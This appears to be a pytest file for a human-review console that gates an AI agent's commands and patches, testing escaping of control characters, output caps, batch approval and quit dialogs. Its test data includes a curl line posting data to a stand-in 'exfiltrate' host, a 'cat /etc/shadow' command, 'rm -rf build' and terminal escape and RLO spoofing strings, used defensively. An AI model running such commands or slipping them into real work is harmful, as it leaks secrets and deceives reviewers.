"""Paths off the main road: patches edited in $EDITOR, hostile diffs, a failing agent, output
floods, the batch rule's corner cases."""

from __future__ import annotations

import contextlib
import stat
from collections.abc import Iterator
from pathlib import Path

import pytest
from uikit import cmd, console, patch, screen_colours

from app.core.model import Assessment, CommandAction, Level, ResultStatus, Verdict, VerdictKind
from app.core.pipeline import ActionState
from app.core.state import ActionView
from app.ui.batch import plan_batch
from app.ui.widgets.diff_view import DiffView
from app.ui.widgets.output import OutputView


async def test_edit_patch_without_a_terminal_says_so(workspace: Path) -> None:
    async with console(workspace) as c:
        c.link.turn("t1", [patch("a.py=x = 1\n", n=1)])
        await c.until(lambda: c.state("patch-t1-1") == ActionState.WAITING)
        await c.select("patch-t1-1")
        await c.pilot.press("e")
        await c.until(lambda: any("cannot open an editor" in n for n in c.notes()))
        assert c.state("patch-t1-1") == ActionState.WAITING


async def test_edit_patch_in_editor_sends_the_revision_back(
    workspace: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    editor = tmp_path / "editor.sh"
    editor.write_text('#!/bin/sh\nprintf "x = 2\\n" >> "$1"\n')
    editor.chmod(editor.stat().st_mode | stat.S_IEXEC)
    monkeypatch.setenv("EDITOR", str(editor))
    monkeypatch.delenv("VISUAL", raising=False)
    async with console(workspace) as c:

        @contextlib.contextmanager
        def no_suspend() -> Iterator[None]:
            yield  # headless: nothing to hand over; the editor script needs no terminal

        monkeypatch.setattr(c.app, "suspend", no_suspend)
        c.link.turn("t1", [patch("a.py=x = 1\n", n=1)])
        await c.until(lambda: c.state("patch-t1-1") == ActionState.WAITING)
        await c.select("patch-t1-1")
        await c.pilot.press("e")
        await c.until(lambda: "t1" in c.link.results)
        result = c.link.results["t1"][0]
        assert result.status is ResultStatus.DENIED
        assert "Propose exactly this patch instead" in result.feedback
        assert result.feedback.endswith("a.py=x = 1\nx = 2\n")
        assert c.session.patches.applied == []
        assert not (workspace / "a.py").exists()


async def test_unchanged_editor_leaves_the_patch_waiting(
    workspace: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("EDITOR", "true")
    monkeypatch.delenv("VISUAL", raising=False)
    async with console(workspace) as c:

        @contextlib.contextmanager
        def no_suspend() -> Iterator[None]:
            yield

        monkeypatch.setattr(c.app, "suspend", no_suspend)
        c.link.turn("t1", [patch("a.py=x = 1\n", n=1)])
        await c.until(lambda: c.state("patch-t1-1") == ActionState.WAITING)
        await c.select("patch-t1-1")
        await c.pilot.press("e")
        await c.until(lambda: any("Patch unchanged" in n for n in c.notes()))
        assert c.state("patch-t1-1") == ActionState.WAITING


async def test_hostile_diff_lines_and_paths_are_marked(workspace: Path) -> None:
    async with console(workspace) as c:
        c.link.turn("t1", [patch("evil\u202etxt.sh=ok\x1b]52;c;aGk=\x07\n", n=1)])
        await c.until(lambda: c.state("patch-t1-1") == ActionState.WAITING)
        await c.select("patch-t1-1")
        text = c.text
        assert "\x1b" not in text and "\u202e" not in text
        assert "evil⟨RLO⟩txt.sh" in text
        assert "+ok␛]52;c;aGk=␇" in text


async def test_agent_failure_makes_the_exit_status_1(workspace: Path) -> None:
    async with console(workspace) as c:
        c.link.status("error", "401 from the model provider")
        await c.until(lambda: "401 from the model provider" in c.text)
        await c.pilot.press("q")
        await c.until(lambda: c.app.return_code is not None)
        assert c.app.return_code == 1


async def test_an_agent_error_is_whole_in_the_main_pane_at_80x24(workspace: Path) -> None:
    """A narrow header can show only the start of an agent's error; the empty review pane says
    it whole (#18.16: the error shows in the main pane)."""
    why = "connection refused by 127.0.0.1:9 (is the server running? check --base-url)"
    async with console(workspace, size=(80, 24)) as c:
        c.link.status("error", why)
        await c.until(lambda: "The agent stopped: connection" in c.text)
        assert "server running? check --base-url)" in c.text  # whole, wrapped, never cut
        assert "Nothing to review yet." not in c.text


async def test_output_flood_is_coalesced_and_capped(workspace: Path) -> None:
    flood = b"".join(b"line %d\n" % i for i in range(30_000))
    async with console(workspace, outputs={"make flood": (flood, b"", 0)}) as c:
        c.link.turn("t1", [cmd("make flood", n=1)])  # safe: the policy lets it run
        await c.until(lambda: "completed, exit 0" in c.text, timeout=10)
        view = c.main.query_one(OutputView)
        assert len(view.rows) <= 20_000  # the pane keeps the tail
        assert "out│ line 29999" in c.text


def _view(
    action_id: str, level: Level | None, state: ActionState = ActionState.WAITING
) -> ActionView:
    assessment = None if level is None else Assessment(score=50, level=level)
    return ActionView(CommandAction("x", turn_id="t", id=action_id), state, assessment)


def test_batch_plan_rules() -> None:
    views = [
        _view("a", Level.LOW),
        _view("b", Level.HIGH),
        _view("c", Level.CRITICAL),
        _view("d", None),  # not assessed yet: never batch-approved
        _view("e", Level.SAFE, state=ActionState.DONE),
    ]
    plan = plan_batch(views, seen={"a", "c", "d", "e"})
    assert plan.approve == ("a",)
    assert plan.unseen == ("b",)
    assert plan.critical == ("c", "d")
    assert not plan.ready
    plan = plan_batch(views, seen={"a", "b"})
    assert plan.ready and plan.approve == ("a", "b")


async def test_ids_and_messages_cannot_use_markup_or_controls(workspace: Path) -> None:
    """Ids come from the agent link and error text from anywhere: neither may style the
    console (Textual markup) nor reach the terminal raw."""
    evil_id = "cmd-[bold red]x[/]\x1b[2J"
    turn = "t[link=http://x]1"
    async with console(workspace) as c:
        c.link.turn(turn, [CommandAction("rm -rf build", turn_id=turn, id=evil_id)])
        await c.until(lambda: c.state(evil_id) == ActionState.WAITING)
        await c.select(evil_id)
        text = c.text
        assert "cmd-[bold red]x[/]␛[2J" in text
        assert "turn t[link=http://x]1" in text
        assert "\x1b" not in text
        c.session.pipeline.submit_verdict(Verdict(evil_id, VerdictKind.DENY))
        await c.until(lambda: "denied" in c.text)
        await c.pilot.press("n")  # not waiting any more: the key says so, naming the action
        await c.until(lambda: any("verdict keys act only on waiting" in m for m in c.notes()))
        messages = c.notes()
        assert any(m.startswith("cmd-[bold red]x[/]␛[2J is denied") for m in messages), messages


async def test_a_very_long_output_line_is_shown_whole_in_bounded_rows(workspace: Path) -> None:
    line = "".join(f"{i:05d}" for i in range(700))  # 3,500 characters, one line
    async with console(workspace, outputs={"cat big": (line.encode() + b"\n", b"", 0)}) as c:
        c.link.turn("t1", [cmd("cat big", n=1)])
        await c.until(lambda: "completed, exit 0" in c.text)
        rows = [r for r in c.main.query_one(OutputView).rows if r.kind == "stdout"]
        assert [len(r.text) for r in rows] == [1000, 1000, 1000, 500]
        assert [r.continued for r in rows] == [False, True, True, True]
        assert "".join(r.text for r in rows) == line
        assert "out↪" in c.text


async def test_editing_a_hazardous_command_never_puts_raw_controls_in_the_text_box(
    workspace: Path,
) -> None:
    from textual.widgets import TextArea

    from app.ui.screens.dialogs import EditCommandScreen

    evil = "echo hi\x1b]0;t\x07 \u202eok"
    async with console(workspace) as c:
        c.link.turn("t1", [cmd(evil, n=1)])
        await c.until(lambda: c.state("cmd-t1-1") == ActionState.WAITING)
        await c.select("cmd-t1-1")
        await c.pilot.press("e")
        await c.until(lambda: isinstance(c.app.screen, EditCommandScreen))
        area = c.app.screen.query_one(TextArea)
        assert "\x1b" not in area.text and "\u202e" not in area.text
        assert "␛]0;t␇" in area.text and "⟨RLO⟩" in area.text
        assert "hidden or control characters" in c.text
        await c.pilot.press("ctrl+s")
        await c.until(lambda: bool(c.session.commands.ran))
        assert c.session.commands.ran == [("cmd-t1-1", "echo hi␛]0;t␇ ⟨RLO⟩ok")]


async def test_switching_theme_recolours_what_is_already_drawn(workspace: Path) -> None:
    """Rows are cached as drawn strips; a theme switch must not leave old colours behind."""
    from app.ui.themes import builtin_theme_dir, load_theme_file

    async with console(workspace) as c:
        c.link.turn("t1", [cmd("rm -rf build", n=1)])
        await c.until(lambda: c.state("cmd-t1-1") == ActionState.WAITING)
        await c.select("cmd-t1-1")
        dark = load_theme_file(builtin_theme_dir() / "dark.toml").variables["risk-span"]
        light = load_theme_file(builtin_theme_dir() / "light.toml").variables["risk-span"]
        assert dark in screen_colours(c.app)
        c.app.theme = "lockgate-light"
        await c.until(lambda: light in screen_colours(c.app) and dark not in screen_colours(c.app))


async def test_quit_also_counts_approved_actions_not_run_yet(workspace: Path) -> None:
    from app.ui.screens.dialogs import QuitScreen

    async with console(workspace) as c:
        # The safe `ls` is auto-approved but waits its turn behind the critical read.
        c.link.turn("t1", [cmd("cat /etc/shadow", n=1), cmd("ls", n=2)])
        await c.until(lambda: c.state("cmd-t1-2") == ActionState.AUTO_APPROVED)
        await c.pilot.press("q")
        await c.until(lambda: isinstance(c.app.screen, QuitScreen))
        # One of each, in the singular (#18.18).
        assert "1 action still waits for a verdict; quitting cancels it (it never runs)." in c.text
        assert "1 approved action has not finished yet; quitting stops it." in c.text
        await c.pilot.press("y")
        await c.until(lambda: c.app.return_code is not None)
        assert c.session.commands.ran == []


async def test_theme_files_reload_while_the_console_runs(workspace: Path) -> None:
    from app.core.config import config_dir
    from app.ui.themes import builtin_theme_dir

    themes = config_dir() / "themes"
    themes.mkdir(parents=True)
    good = (builtin_theme_dir() / "dark.toml").read_text().replace('"lockgate-dark"', '"mine"')
    async with console(workspace, watch_files=True) as c:
        await c.pilot.pause(0.4)  # the watchers are up
        (themes / "mine.toml").write_text(good)
        await c.until(lambda: "mine" in c.app.available_themes, timeout=5)
        c.app.theme = "mine"
        await c.pilot.pause(0.1)
        (themes / "mine.toml").write_text(
            good.replace('risk-high = "#f08a4b"', 'risk-high = "#123456"')
        )
        await c.until(lambda: c.app.theme_variables.get("risk-high") == "#123456", timeout=5)
        (themes / "mine.toml").write_text("name = 'mine'\n[colors]\n")
        await c.until(
            lambda: any("mine.toml" in n and "primary" in n for n in c.notes()), timeout=5
        )
        assert c.app.theme == "mine"  # the last good version stays in use
        assert c.app.theme_variables.get("risk-high") == "#123456"


async def test_a_diff_line_wider_than_the_pane_says_it_goes_on(workspace: Path) -> None:
    tail = "https://hooks.example/exfiltrate?data=ALL"
    line = "curl -d x " + "y" * 150 + " " + tail
    async with console(workspace, size=(120, 40)) as c:
        c.link.turn("t1", [patch(f"hook.sh={line}\n", n=1)])
        await c.until(lambda: c.state("patch-t1-1") == ActionState.WAITING)
        await c.select("patch-t1-1")
        diff = c.main.query_one(DiffView)
        await c.until(lambda: any("+curl -d x" in r for r in c.text.splitlines()))
        row = next(r for r in c.text.splitlines() if "+curl -d x" in r)
        assert tail not in c.text
        # The last column of the pane marks the line as cut, not a letter of the line.
        assert row.rstrip("│ ").endswith("›"), row
        diff.scroll_to(x=diff.max_scroll_x, animate=False, immediate=True)
        await c.until(lambda: tail in c.text)
        row = next(r for r in c.text.splitlines() if tail in r)
        assert "‹" in row


async def test_agent_pane_follows_the_newest_words(workspace: Path) -> None:
    from app.ui.widgets.agent_text import AgentView

    async with console(workspace, size=(120, 30)) as c:
        view = c.main.query_one(AgentView)
        for i in range(12):
            for j in range(5):
                c.link.say(f"step {i}.{j} of the plan.\n")
            await c.pilot.pause(0.02)
        await c.until(lambda: "step 11.4 of the plan." in view.text)
        await c.until(lambda: "step 11.4 of the plan." in c.text)
        # Words that arrive while a dialog covers the screen are there when it closes.
        await c.pilot.press("question_mark")
        await c.until(lambda: c.app.screen is not c.main)
        for i in range(20):
            c.link.say(f"later {i} while help is open.\n")
            await c.pilot.pause(0.01)
        await c.until(lambda: "later 19 while help is open." in view.text)
        await c.pilot.press("escape")
        await c.until(lambda: c.app.screen is c.main)
        await c.until(lambda: "later 19 while help is" in c.text)
        # Scrolled up by the reviewer, it stays where they put it.
        view.scroll_home(animate=False)
        await c.pilot.pause(0.05)
        c.link.say("one more line.\n")
        await c.until(lambda: "one more line." in view.text)
        await c.pilot.pause(0.1)
        assert "step 0.0 of the plan." in c.text
        assert "one more line." not in c.text
